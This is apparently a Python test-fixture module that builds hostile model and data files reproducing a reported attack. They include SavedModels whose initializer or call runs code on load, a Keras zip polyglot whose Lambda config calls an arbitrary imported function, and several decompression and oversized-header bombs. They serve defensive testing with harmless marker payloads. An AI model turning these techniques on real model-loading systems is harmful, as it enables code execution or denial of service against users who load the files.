"""Builders of hostile model and data files, each the smallest reproduction of an attack of issue 13.

Every builder writes into a given folder and names a marker file that the
attack writes (or a string it prints) if any of its code runs.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path

import numpy as np

MARKER_TEXT = "hostile code ran"


def saved_model_with_initializer(folder: Path, marker: Path) -> Path:
    """An ordinary Dense network saved as a SavedModel, carrying a resource whose initializer writes ``marker``.

    TensorFlow's SavedModel loader runs every resource initializer while loading.
    """
    from deploykit.backend import keras, tf

    class Hostile(tf.saved_model.experimental.TrackableResource):
        def __init__(self, path: str):
            super().__init__()
            self._path = path

        def _create_resource(self):
            return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="hostile")

        def _initialize(self):
            return tf.io.write_file(self._path, MARKER_TEXT)

    model = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, name="hidden"), keras.layers.Dense(2, name="out")]
    )
    model.hostile = Hostile(str(marker))
    path = folder / "initializer_sm"
    model.save(path, save_format="tf")
    assert not marker.exists()
    return path


def saved_model_with_fake_dense(folder: Path, marker: Path) -> Path:
    """A SavedModel whose layer is a custom class *named* ``Dense`` (its config not a Dense config); its traced call
    writes ``marker``."""
    from deploykit.backend import keras, tf

    class Dense(keras.layers.Layer):
        def __init__(self, marker: str = "", **kwargs):
            super().__init__(**kwargs)
            self.marker = marker

        def build(self, input_shape):
            self.kernel = self.add_weight(name="kernel", shape=(int(input_shape[-1]), 2))

        def call(self, x):
            with tf.control_dependencies([tf.io.write_file(self.marker, MARKER_TEXT)]):
                return tf.matmul(x, self.kernel)

        def get_config(self):
            return {**super().get_config(), "marker": self.marker}

    model = keras.Sequential([keras.Input((4,)), Dense(str(marker), name="dense")])
    path = folder / "fake_dense_sm"
    model.save(path, save_format="tf")
    if marker.exists():
        marker.unlink()  # tracing at save time ran the call once
    return path


def h5_zip_polyglot(folder: Path) -> Path:
    """A genuine HDF5 model with a Keras zip appended, named ``.keras``.

    The zip's config names ``logging.warning`` as a Lambda function: a loader reading the
    zip imports it and calls it (printing the symbolic input, a ``KerasTensor``, on stderr)
    while building the model. The attack of issue 13 named ``builtins.print`` the same way.
    """
    from deploykit.backend import keras

    h5 = folder / "plain.h5"
    keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, name="out")]).save(h5)
    printing = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lam",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "module": "logging",
                "class_name": "function",
                "config": "warning",
                "registered_name": "function",
            },
            "module": "logging",
            "function_type": "function",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {
            "name": "seq",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "registered_name": None,
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input"},
                },
                printing,
            ],
        },
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "2.21.0"}))
        zf.writestr("config.json", json.dumps(config))
    path = folder / "polyglot.keras"
    path.write_bytes(h5.read_bytes() + buffer.getvalue())
    return path


def keras_zip_bomb(folder: Path, inflated: int) -> Path:
    """A .keras archive whose config.json inflates to ``inflated`` bytes of JSON whitespace (about 1000x
    compression)."""
    path = folder / "bomb.keras"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "2.21.0"}))
        with zf.open("config.json", "w", force_zip64=True) as fh:
            chunk = b" " * (1 << 20)
            for _ in range(inflated // len(chunk)):
                fh.write(chunk)
            fh.write(b"{}")
    return path


def npz_bomb(folder: Path, rows: int = 20_000_000, cols: int = 64) -> Path:
    """An .npz whose x.npy header declares ``rows`` x ``cols`` uint8 values but whose data is cut short.

    A reader trusting the header allocates the whole array; the real attack's
    1.26 MB file held the zeros compressed, which costs the test seconds to build.
    """
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "|u1", "fortran_order": False, "shape": (rows, cols)})
    path = folder / "bomb.npz"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("x.npy", header.getvalue() + bytes(1 << 16))
        y = io.BytesIO()
        np.save(y, np.zeros(rows, dtype=np.uint8)[:10])
        zf.writestr("y.npy", y.getvalue())
    return path


def idx_bomb(folder: Path, images: int = 20_000_000) -> Path:
    """An IDX images file (and its labels file) whose header declares ``images`` 28 x 28 images and holds a few
    bytes."""
    images_path = folder / "train-images-idx3-ubyte"
    images_path.write_bytes(struct.pack(">BBBBIII", 0, 0, 0x08, 3, images, 28, 28) + bytes(784))
    (folder / "train-labels-idx1-ubyte").write_bytes(struct.pack(">BBBBI", 0, 0, 0x08, 1, images) + bytes(1))
    return images_path


def csv_bomb(folder: Path, columns: int = 2_000_000, rows: int = 150) -> Path:
    """A CSV whose header names ``columns`` columns, followed by ``rows`` lines: it declares rows x columns values."""
    path = folder / "wide.csv"
    header = ",".join(["label", *(f"f{i}" for i in range(columns - 1))])
    path.write_text(header + "\n" + "\n" * rows)
    return path


def keras_zip_underdeclared(folder: Path, inflated: int = 256 << 20, declared: int = 100) -> Path:
    """A .keras archive whose zip directory says config.json holds ``declared`` bytes; it inflates to ``inflated``."""
    path = folder / "under.keras"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "2.21.0"}))
        with zf.open("config.json", "w") as fh:
            chunk = b" " * (1 << 20)
            for _ in range(inflated // len(chunk)):
                fh.write(chunk)
    raw = bytearray(path.read_bytes())
    start = 0
    while (start := raw.find(b"PK\x01\x02", start)) >= 0:  # central directory entries
        name_length, local = struct.unpack_from("<H", raw, start + 28)[0], struct.unpack_from("<I", raw, start + 42)[0]
        if raw[start + 46 : start + 46 + name_length] == b"config.json":
            struct.pack_into("<I", raw, start + 24, declared)
            struct.pack_into("<I", raw, local + 22, declared)
        start += 4
    path.write_bytes(bytes(raw))
    return path
